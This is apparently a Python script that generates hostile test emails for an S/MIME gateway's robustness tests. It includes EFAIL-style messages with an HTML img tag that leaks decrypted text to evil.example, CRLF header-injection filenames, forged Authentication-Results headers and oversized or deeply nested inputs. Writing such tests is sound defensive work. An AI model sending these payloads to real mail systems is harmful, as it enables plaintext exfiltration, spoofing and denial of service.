#!/usr/bin/env python3
"""Writes the hostile-input corpus for tests/hostile/run.sh.

    gen.py static OUTDIR   the small cases (committed under tests/hostile/cases)
    gen.py big OUTDIR      the large ones (made at run time, never committed)

Each case is one message file (LF line ends unless the case is about line
ends; smimegw-load sends LF as CRLF).  CMS objects are made with the
openssl command line from the committed test PKI (tests/fixtures/pki), so
regenerating changes the random parts (keys, IVs, signatures) but not
what each case tests.  expected.tsv is written by hand, not by this script.
"""
import base64
import os
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
PKI = os.path.join(HERE, "..", "fixtures", "pki")
OPENSSL = os.environ.get("OPENSSL_BIN", "openssl")
SECRET = "EFAIL-SECRET-4c1f"  # must never appear in a body the gateway rewrites

OUT_HDR = ("From: Alice <alice@example.org>\nTo: Bob <bob@example.net>\n"
           "Subject: hostile {name}\nMessage-ID: <{name}@example.org>\nMIME-Version: 1.0\n")
IN_HDR = ("From: Someone <someone@example.net>\nTo: Bob <bob@example.org>\n"
          "Subject: hostile {name}\nMessage-ID: <{name}@example.net>\nMIME-Version: 1.0\n")


def pki(name):
    return os.path.join(PKI, name)


def openssl(*args, data=None):
    r = subprocess.run([OPENSSL] + list(args), input=data, capture_output=True)
    if r.returncode != 0:
        sys.exit("openssl %s failed: %s" % (" ".join(args), r.stderr.decode(errors="replace")))
    return r.stdout


def b64(der):
    s = base64.b64encode(der).decode()
    return "\n".join(s[i:i + 76] for i in range(0, len(s), 76)) + "\n"


def envelope(plain, recips, cipher="-aes-256-cbc"):
    """DER EnvelopedData (AuthEnvelopedData for GCM) of plain for recips (cert files)."""
    with tempfile.NamedTemporaryFile() as f:
        f.write(plain.encode() if isinstance(plain, str) else plain)
        f.flush()
        return openssl("cms", "-encrypt", "-binary", "-in", f.name, "-outform", "DER",
                       cipher, *[pki(r) for r in recips])


def envelope_many(plain, certs):
    with tempfile.TemporaryDirectory() as d:
        src = os.path.join(d, "in")
        open(src, "wb").write(plain.encode())
        return openssl("cms", "-encrypt", "-binary", "-in", src, "-outform", "DER",
                       "-aes-256-cbc", *certs)


def sign(content, opaque=False, extra=()):
    """Signs content (bytes) as alice-sign; DER SignedData (detached unless opaque)."""
    return detached(content, (("-nodetach",) if opaque else ()) + tuple(extra))


def detached(content, extra=()):
    with tempfile.NamedTemporaryFile() as f:
        f.write(content)
        f.flush()
        return openssl("cms", "-sign", "-binary", "-in", f.name, "-outform", "DER",
                       "-signer", pki("alice-sign.crt"), "-inkey", pki("alice-sign.key"),
                       "-md", "sha256", *extra)


def p7m_msg(hdr, der, stype="enveloped-data", ctype="application/pkcs7-mime", cte="base64",
            body=None):
    return (hdr + 'Content-Type: %s; smime-type=%s; name="smime.p7m"\n'
            'Content-Transfer-Encoding: %s\n'
            'Content-Disposition: attachment; filename="smime.p7m"\n\n' % (ctype, stype, cte)
            + (body if body is not None else b64(der)))


def multipart_signed(hdr, inner, der, outer_extra=""):
    """inner: the signed entity text with CRLF line ends."""
    b = "sig-boundary-1"
    return (hdr + 'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; '
            'micalg=sha-256; boundary="%s"\n\n' % b
            + "--%s\n" % b + inner.replace("\r\n", "\n") + "\n--%s\n" % b
            + 'Content-Type: application/pkcs7-signature; name="smime.p7s"\n'
            'Content-Transfer-Encoding: base64\n\n' + b64(der) + "--%s--\n" % b + outer_extra)


def write(outdir, name, content):
    p = os.path.join(outdir, name)
    with open(p, "wb") as f:
        f.write(content.encode("latin-1") if isinstance(content, str) else content)


def static_cases(o):
    H = lambda n: OUT_HDR.format(name=n)
    I = lambda n: IN_HDR.format(name=n)
    text = "Content-Type: text/plain; charset=us-ascii\n\nhello\n"
    # --- outbound: malformed MIME structure --------------------------------
    write(o, "out-mp-no-boundary-param.eml", H("a") + "Content-Type: multipart/mixed\n\n--x\n\nbody\n--x--\n")
    write(o, "out-mp-boundary-absent.eml", H("b") + 'Content-Type: multipart/mixed; boundary="nothere"\n\n'
          "--other\nContent-Type: text/plain\n\nhi\n--other--\n")
    write(o, "out-mp-unterminated.eml", H("c") + 'Content-Type: multipart/mixed; boundary="u"\n\n'
          "--u\nContent-Type: text/plain\n\none\n--u\nContent-Type: text/plain\n\ntwo, no close delimiter\n")
    write(o, "out-mp-duplicate-boundary-param.eml", H("d") + 'Content-Type: multipart/mixed; boundary="a"; boundary="b"\n\n'
          "--a\n\nin a\n--b\n\nin b\n--a--\n--b--\n")
    write(o, "out-mp-nested-same-boundary.eml", H("e") + 'Content-Type: multipart/mixed; boundary="s"\n\n'
          '--s\nContent-Type: multipart/alternative; boundary="s"\n\n--s\nContent-Type: text/plain\n\n\xe9t\xe9\n--s--\n--s--\n')
    write(o, "out-mp-empty-boundary.eml", H("f") + 'Content-Type: multipart/mixed; boundary=""\n\n--\n\nx\n----\n')
    write(o, "out-mp-boundary-too-long.eml", H("g") + 'Content-Type: multipart/mixed; boundary="%s"\n\n--%s\n\n\xff\n--%s--\n'
          % ("B" * 300, "B" * 300, "B" * 300))
    write(o, "out-mp-boundary-8bit.eml", H("h") + 'Content-Type: multipart/mixed; boundary="\xe4\xf6\xfc"\n\n--\xe4\xf6\xfc\n\nx\xff\n--\xe4\xf6\xfc--\n')
    write(o, "out-mp-boundary-prefix.eml", H("i") + 'Content-Type: multipart/mixed; boundary="a"\n\n--a\n\nline\n--ab\n--a-\n--a \n\n\xe9\n--a--\n')
    write(o, "out-mp-only-preamble.eml", H("j") + 'Content-Type: multipart/mixed; boundary="p"\n\njust a preamble \xff\n')
    # Two delimiters sharing one line break (an empty part): crashed the daemon (mime.c walk_child).
    write(o, "out-mp-empty-part.eml", H("k2") + 'Content-Type: multipart/mixed; boundary="p"\n\n--p\nContent-Type: text/plain\n\n\xe9\n--p\n--p--\n')
    write(o, "out-mp-empty-parts-7bit.eml", H("k3") + 'Content-Type: multipart/mixed; boundary="p"\n\n--p\n--p\n--p\n--p--\n')
    write(o, "out-mp-close-first.eml", H("k") + 'Content-Type: multipart/mixed; boundary="c"\n\n--c--\n--c\n\nafter close \xff\n--c--\n')
    nest = 'Content-Type: multipart/mixed; boundary="n%d"\n\n--n%d\n'
    s = H("l")
    for i in range(33):
        s += nest % (i, i)
    s += "Content-Type: text/plain\n\ndeep \xff\n"
    for i in reversed(range(33)):
        s += "--n%d--\n" % i
    write(o, "out-nest-33.eml", s)
    s = H("m") + 'Content-Type: multipart/mixed; boundary="p"\n\n'
    for i in range(1001):
        s += "--p\nContent-Type: text/plain\n\npart %d \xe9\n" % i
    write(o, "out-parts-1001.eml", s + "--p--\n")
    s = H("n") + 'Content-Type: multipart/mixed; boundary="f"\n\n--f\n'
    s += "".join("X-Field-%d: v\n" % i for i in range(201))
    write(o, "out-part-fields-201.eml", s + "Content-Type: text/plain\n\n\xe9\n--f--\n")
    s = H("o") + "Content-Type: message/rfc822\n\n"
    for i in range(50):
        s += "Subject: level %d\nContent-Type: message/rfc822\n\n" % i
    write(o, "out-rfc822-50-deep.eml", s + "Content-Type: text/plain\n\n\xe9\n")
    write(o, "out-rfc822-8bit.eml", H("p") + "Content-Type: message/rfc822\n\nSubject: inner \xe9\nContent-Type: text/plain\n\nbody \xff\n")
    # --- outbound: bytes --------------------------------------------------
    write(o, "out-nul-body.eml", H("q") + "Content-Type: text/plain\n\nbefore\x00after\n\x00\x00\x00\n")
    write(o, "out-nul-header.eml", H("r") + "X-Nul: a\x00b\nContent-Type: text/plain\n\nbody\n")
    write(o, "out-bare-cr.eml", H("s") + "Content-Type: text/plain\n\nline\rwith bare CR\rand more\r\n")
    write(o, "out-bare-cr-header.eml", H("t") + "X-Cr: a\rb\nContent-Type: text/plain\n\nbody\n")
    write(o, "out-8bit-subject.eml", H("u").replace("Subject: hostile u", "Subject: caf\xe9 \xff\xfe") + text)
    write(o, "out-8bit-content-header.eml", H("v") + "Content-Type: text/plain; name=\"caf\xe9.txt\"\n\nbody\n")
    write(o, "out-all-bytes.eml", H("w") + "Content-Type: application/octet-stream\n\n" + "".join(chr(i) for i in range(256)) * 4 + "\n")
    write(o, "out-line-5000.eml", H("x") + "Content-Type: text/plain\n\n" + "y" * 5000 + "\n")
    write(o, "out-header-line-5000.eml", H("y") + "X-Long: " + "z" * 5000 + "\n" + text)
    write(o, "out-header-folded-10000.eml", H("z") + "X-Folded: start\n" + " c\n" * 10000 + text)
    write(o, "out-empty-body.eml", H("aa") + "Content-Type: text/plain\n\n")
    write(o, "out-no-body-separator.eml", H("ab") + "Content-Type: text/plain")
    write(o, "out-no-mime-headers.eml", "From: alice@example.org\nTo: bob@example.net\n\nplain \xe9\n")
    write(o, "out-only-body.eml", "\nno header section at all\n")
    # --- outbound: encodings ------------------------------------------------
    write(o, "out-invalid-base64.eml", H("ba") + "Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n!!!!****====AAAA\n====\n%%%\n")
    write(o, "out-base64-with-8bit.eml", H("bb") + "Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\nQUJD\xff\xfeREVG\n")
    write(o, "out-invalid-qp.eml", H("bc") + "Content-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\n=ZZ=\n=0\n=\xff=\n")
    write(o, "out-cte-unknown-8bit.eml", H("bd") + "Content-Type: text/plain\nContent-Transfer-Encoding: x-uuencode\n\nbegin 644 \xff\n")
    write(o, "out-cte-duplicate.eml", H("be") + "Content-Type: text/plain\nContent-Transfer-Encoding: base64\nContent-Transfer-Encoding: 8bit\n\n\xe9t\xe9\n")
    # --- outbound: Content-Type trickery ---------------------------------
    write(o, "out-ctype-garbage.eml", H("ca") + "Content-Type: ;;;===\"\"\\\\((\n\n\xe9\n")
    write(o, "out-ctype-comments-deep.eml", H("cb") + "Content-Type: text/plain" + "(" * 20000 + ")" * 20000 + "; charset=us-ascii\n\n\xe9\n")
    write(o, "out-ctype-unbalanced-quote.eml", H("cc") + 'Content-Type: multipart/mixed; boundary="abc\n\n--abc\n\n\xe9\n--abc--\n')
    write(o, "out-ctype-param-100k.eml", H("cd") + "Content-Type: text/plain; x-junk=\"" + "p" * 100000 + "\"; charset=utf-8\n\n\xe9\n")
    write(o, "out-ctype-many-params.eml", H("ce") + "Content-Type: text/plain" + "".join("; p%d=v" % i for i in range(5000)) + "\n\n\xe9\n")
    write(o, "out-ctype-rfc2231-boundary.eml", H("cf") + "Content-Type: multipart/mixed;" + "".join(" boundary*%d=\"x%d\";" % (i, i) for i in range(1000))
          + "\n\n--x0\n\n\xe9\n--x0--\n")
    write(o, "out-charset-utf7.eml", H("cg") + "Content-Type: text/html; charset=utf-7\n\n+ADw-script+AD4-alert(1)+ADw-/script+AD4- \xe9\n")
    write(o, "out-charset-mismatch.eml", H("ch") + "Content-Type: text/plain; charset=\"us-ascii\\\"; charset=utf-16\"\n\n\xff\xfeh\x00i\x00\n")
    write(o, "out-ctype-twice-signed-second.eml", H("ci") + "Content-Type: text/plain\nContent-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=x\n\n\xe9\n")
    write(o, "out-ctype-twice-signed-first.eml", H("cj") + "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=x\nContent-Type: text/plain\n\nnot really signed\n")
    write(o, "out-filename-quotes.eml", H("ck") + 'Content-Type: multipart/mixed; boundary="q"\n\n--q\nContent-Type: application/octet-stream; name="a\\"b\\\\c\'d.exe"\n'
          'Content-Disposition: attachment; filename="a\\"b\\\\c\'d.exe"; filename*=utf-8\'\'a%0D%0AX-Injected%3A%20yes\n\n\x00\xff\n--q--\n')
    write(o, "out-filename-crlf-encoded.eml", H("cl") + "Content-Type: text/plain; name==?utf-8?Q?a=0D=0AX-Injected:_yes?=\n\n\xe9\n")
    # --- envelope injection (the addresses come from expected.tsv) ----------
    for n in ("crlf-from", "crlf-rcpt", "quoted-from", "long-from", "null-from", "in-crlf-rcpt"):
        write(o, "env-%s.eml" % n, (I if n.startswith("in-") else H)("env-" + n) + text.replace("hello", "hello \xe9"))
    # --- outbound: already secured / wrapping ------------------------------
    inner = "Content-Type: text/plain\r\n\r\nsigned text\r\n"
    write(o, "out-already-signed.eml", multipart_signed(H("da"), inner, detached(inner.encode())))
    write(o, "out-already-encrypted.eml", p7m_msg(H("db"), envelope(text, ["bob.crt"])))
    write(o, "out-pkcs7-unknown-smime-type.eml", p7m_msg(H("dc"), b"", stype="x-unknown", body="AAAA\n"))
    write(o, "out-pkcs7-signature-alone.eml", H("dd") + "Content-Type: application/pkcs7-signature\nContent-Transfer-Encoding: base64\n\nAAAA\n")
    write(o, "out-signed-no-protocol-garbage.eml", H("de") + "Content-Type: multipart/signed; boundary=z\n\n\xff\xfe garbage\n")
    write(o, "out-efail-structure.eml", H("df") + 'Content-Type: multipart/mixed; boundary="e"\n\n--e\nContent-Type: text/html\n\n<img src="http://evil.example/?\n'
          '--e\n' + p7m_msg("", envelope("Content-Type: text/plain\n\n" + SECRET + "\n", ["alice-enc.crt"])) + '--e\nContent-Type: text/html\n\n">\n--e--\n')

    # --- inbound (pending until the daemon's inbound path lands) ------------
    secret_entity = "Content-Type: text/plain; charset=us-ascii\r\n\r\n" + SECRET + "\r\n"
    env = envelope(secret_entity, ["bob.crt"])
    write(o, "in-enveloped-ok.eml", p7m_msg(I("ia"), env))
    write(o, "in-authenveloped-ok.eml", p7m_msg(I("ib"), envelope(secret_entity, ["bob.crt"], "-aes-128-gcm"), stype="authEnveloped-data"))
    gcm = bytearray(envelope(secret_entity, ["bob.crt"], "-aes-128-gcm"))
    gcm[-1] ^= 1  # the tag is the last OCTET STRING
    write(o, "in-authenveloped-bad-tag.eml", p7m_msg(I("ic"), bytes(gcm), stype="authEnveloped-data"))
    write(o, "in-enveloped-truncated.eml", p7m_msg(I("id"), env[:len(env) // 2]))
    write(o, "in-enveloped-overlong.eml", p7m_msg(I("ie"), env + os.urandom(4096)))
    bad = bytearray(env)
    bad[-5] ^= 0x55
    write(o, "in-enveloped-ciphertext-flipped.eml", p7m_msg(I("if"), bytes(bad)))
    write(o, "in-enveloped-not-for-us.eml", p7m_msg(I("ig"), envelope(secret_entity, ["alice-enc.crt"])))
    write(o, "in-enveloped-wrong-label.eml", p7m_msg(I("ih"), env, stype="signed-data"))
    write(o, "in-enveloped-binary-cte.eml", p7m_msg(I("ii"), env, cte="binary", body=env.decode("latin-1") + "\n"))
    write(o, "in-enveloped-invalid-base64.eml", p7m_msg(I("ij"), b"", body="!!!!" + b64(env)[5:] + "@@@\n"))
    write(o, "in-enveloped-empty.eml", p7m_msg(I("ik"), b"", body=""))
    write(o, "in-enveloped-length-overflow.eml", p7m_msg(I("il"), b"\x30\x84\xff\xff\xff\xff\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03" + b"\x00" * 64))
    write(o, "in-enveloped-deep-asn1.eml", p7m_msg(I("im"), b"\x30\x80" * 20000 + b"\x00\x00" * 20000))
    write(o, "in-double-enveloped.eml", p7m_msg(I("in"), envelope(p7m_msg("", envelope(secret_entity, ["bob.crt"])).replace("\n", "\r\n"), ["bob.crt"])))
    # EFAIL: an encrypted part for bob between attacker-controlled HTML parts.
    part = p7m_msg("", env)
    write(o, "in-efail-mixed.eml", I("io") + 'Content-Type: multipart/mixed; boundary="e"\n\n--e\nContent-Type: text/html\n\n<img src="http://evil.example/?\n'
          '--e\n' + part + '--e\nContent-Type: text/html\n\n">\n--e--\n')
    write(o, "in-efail-alternative.eml", I("ip") + 'Content-Type: multipart/alternative; boundary="e"\n\n--e\n' + part + '--e\nContent-Type: text/plain\n\nx\n--e--\n')
    write(o, "in-efail-rfc822.eml", I("iq") + "Content-Type: message/rfc822\n\n" + part)
    write(o, "in-efail-signed-wrapper.eml", I("ir") + 'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary="w"\n\n--w\n'
          + part + '--w\nContent-Type: application/pkcs7-signature\nContent-Transfer-Encoding: base64\n\nAAAA\n--w--\n')
    # Signatures.
    signed_inner = "Content-Type: text/plain; charset=us-ascii\r\n\r\nsigned by alice\r\n"
    sig = detached(signed_inner.encode())
    write(o, "in-signed-ok.eml", multipart_signed(I("sa").replace("someone@example.net", "alice@example.org"), signed_inner, sig))
    write(o, "in-signed-tampered.eml", multipart_signed(I("sb"), signed_inner.replace("alice", "mallory"), sig))
    write(o, "in-signed-wrapped-in-mixed.eml", I("sc") + 'Content-Type: multipart/mixed; boundary="m"\n\n--m\nContent-Type: text/plain\n\nattacker text\n--m\n'
          + multipart_signed("", signed_inner, sig) + "--m--\n")
    write(o, "in-signed-extra-parts.eml", multipart_signed(I("sd"), signed_inner, sig).replace("--sig-boundary-1--\n",
          "--sig-boundary-1\nContent-Type: text/html\n\n<b>unsigned addition</b>\n--sig-boundary-1--\n"))
    write(o, "in-signed-garbage-sig.eml", multipart_signed(I("se"), signed_inner, os.urandom(600)))
    write(o, "in-signed-no-sig-part.eml", I("sf") + 'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary="w"\n\n--w\n'
          + signed_inner.replace("\r\n", "\n") + "--w--\n")
    write(o, "in-opaque-signed-ok.eml", p7m_msg(I("sg"), sign(signed_inner.encode(), opaque=True), stype="signed-data"))
    write(o, "in-opaque-labelled-enveloped.eml", p7m_msg(I("sh"), sign(signed_inner.encode(), opaque=True), stype="enveloped-data"))
    write(o, "in-signed-then-enveloped.eml", p7m_msg(I("si"), envelope(multipart_signed("", signed_inner, sig).replace("\n", "\r\n"), ["bob.crt"])))
    # Anti-spoofing: a forged Authentication-Results claiming to be ours.
    write(o, "in-authres-spoof.eml", I("sj").replace("MIME-Version", "Authentication-Results: mx.hostile.test; smime=pass smime.smime-identifier=ceo@example.org\n"
          "X-SMIMEGW-Result: verify=pass; reason=ok\nAuthentication-Results: (comment) \"mx.hostile.test\" ; smime=pass\nMIME-Version") + text)
    write(o, "in-authres-garbage.eml", I("sk").replace("MIME-Version", "Authentication-Results: " + "(" * 5000 + "\nAuthentication-Results: \"" + "q" * 3000 + "\nMIME-Version") + text)
    write(o, "in-plain.eml", I("sl") + text)


def nest_msg(hdr, depth, leaf):
    parts = [hdr]
    for i in range(depth):
        parts.append('Content-Type: multipart/mixed; boundary="d%d"\n\n--d%d\n' % (i, i))
    parts.append(leaf)
    for i in reversed(range(depth)):
        parts.append("--d%d--\n" % i)
    return "".join(parts)


def big_cases(o):
    H = lambda n: OUT_HDR.format(name=n)
    I = lambda n: IN_HDR.format(name=n)
    leaf = "Content-Type: text/plain\n\ndeep \xe9\n"
    write(o, "gen-out-nest-10000.eml", nest_msg(H("g1"), 10000, leaf))
    write(o, "gen-out-header-50mb.eml", H("g2") + "X-Huge: " + "h" * (50 << 20) + "\nContent-Type: text/plain\n\nbody\n")
    write(o, "gen-out-header-5mb.eml", H("g3") + "X-Big: " + "h" * (5 << 20) + "\nContent-Type: text/plain\n\nbody \xe9\n")
    write(o, "gen-out-body-line-8mb.eml", H("g4") + "Content-Type: application/octet-stream\n\n" + "\xff" * (8 << 20) + "\n")
    # smimegw-load sends at most 1000 fields; the msgbuf's own limit (10,000) is fuzzed instead.
    write(o, "gen-out-headers-990.eml", H("g5") + "".join("X-H%d: v\n" % i for i in range(990)) + "Content-Type: text/plain\n\nbody \xe9\n")
    write(o, "gen-out-ctype-param-1mb.eml", H("g6") + "Content-Type: multipart/mixed; boundary=\"" + "b" * (1 << 20) + "\"\n\n--b\n\n\xe9\n")
    write(o, "gen-out-parts-20000.eml", H("g7") + 'Content-Type: multipart/mixed; boundary="p"\n\n' + "--p\n\n\xe9\n" * 20000 + "--p--\n")
    write(o, "gen-out-oversize-body.eml", H("g8") + "Content-Type: text/plain\n\n" + ("x" * 99 + "\n") * (25 * (1 << 20) // 100))
    secret_entity = "Content-Type: text/plain\r\n\r\nsecret\r\n"
    # Thousands of RecipientInfos, ours last.
    certs = [pki("alice-enc.crt")] * 2000 + [pki("bob.crt")]
    write(o, "gen-in-recipientinfos-2000.eml", p7m_msg(I("g9"), envelope_many(secret_entity, certs)))
    # Thousands of certificates in a SignedData (OpenSSL refuses duplicates: DER surgery).
    inner = "Content-Type: text/plain\r\n\r\nsigned\r\n"
    cert = openssl("x509", "-in", pki("bob.crt"), "-outform", "DER")
    write(o, "gen-in-signed-certs-4000.eml", multipart_signed(I("g10"), inner, many_certs(detached(inner.encode()), cert, 4000)))
    write(o, "gen-in-signers-1000.eml", multipart_signed(I("g11"), inner, many_signers(detached(inner.encode()), 1000)))
    write(o, "gen-in-nest-10000.eml", nest_msg(I("g12"), 10000, p7m_msg("", envelope(secret_entity, ["bob.crt"]))))
    sig_inner = "Content-Type: text/plain\r\n\r\nx\r\n"
    write(o, "gen-in-signature-3mb.eml", multipart_signed(I("g13"), sig_inner, os.urandom(3 << 20)))


# --- minimal DER surgery for the many-signers case --------------------------

def der_read(b, i):
    tag = b[i]
    l = b[i + 1]
    j = i + 2
    if l & 0x80:
        n = l & 0x7f
        l = int.from_bytes(b[j:j + n], "big")
        j += n
    return tag, j, j + l  # tag, content start, content end


def der_len(n):
    if n < 0x80:
        return bytes([n])
    s = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(s)]) + s


def der_tlv(tag, content):
    return bytes([tag]) + der_len(len(content)) + content


def signeddata_items(der):
    _, c0, _ = der_read(der, 0)            # ContentInfo SEQUENCE
    _, c1, e1 = der_read(der, c0)          # contentType OID
    _, c2, e2 = der_read(der, e1)          # [0] EXPLICIT
    _, c3, e3 = der_read(der, c2)          # SignedData SEQUENCE
    items, i = [], c3
    while i < e3:
        _, cs, ce = der_read(der, i)
        items.append(der[i:ce])
        i = ce
    return der[c0:e1], items


def signeddata_join(oid, items):
    return der_tlv(0x30, oid + der_tlv(0xa0, der_tlv(0x30, b"".join(items))))


def many_certs(der, cert, n):
    """Adds n copies of cert (DER) to the SignedData's certificates."""
    oid, items = signeddata_items(der)
    for k, it in enumerate(items):
        if it[0] == 0xa0:
            _, cs, ce = der_read(it, 0)
            items[k] = der_tlv(0xa0, it[cs:ce] + cert * n)
    return signeddata_join(oid, items)


def many_signers(der, n):
    """Replicates the (single) SignerInfo of a SignedData n times."""
    oid, items = signeddata_items(der)
    _, sc, se = der_read(items[-1], 0)
    items[-1] = der_tlv(0x31, items[-1][sc:se] * n)
    return signeddata_join(oid, items)


if __name__ == "__main__":
    if len(sys.argv) != 3 or sys.argv[1] not in ("static", "big"):
        sys.exit("usage: gen.py static|big OUTDIR")
    os.makedirs(sys.argv[2], exist_ok=True)
    (static_cases if sys.argv[1] == "static" else big_cases)(sys.argv[2])
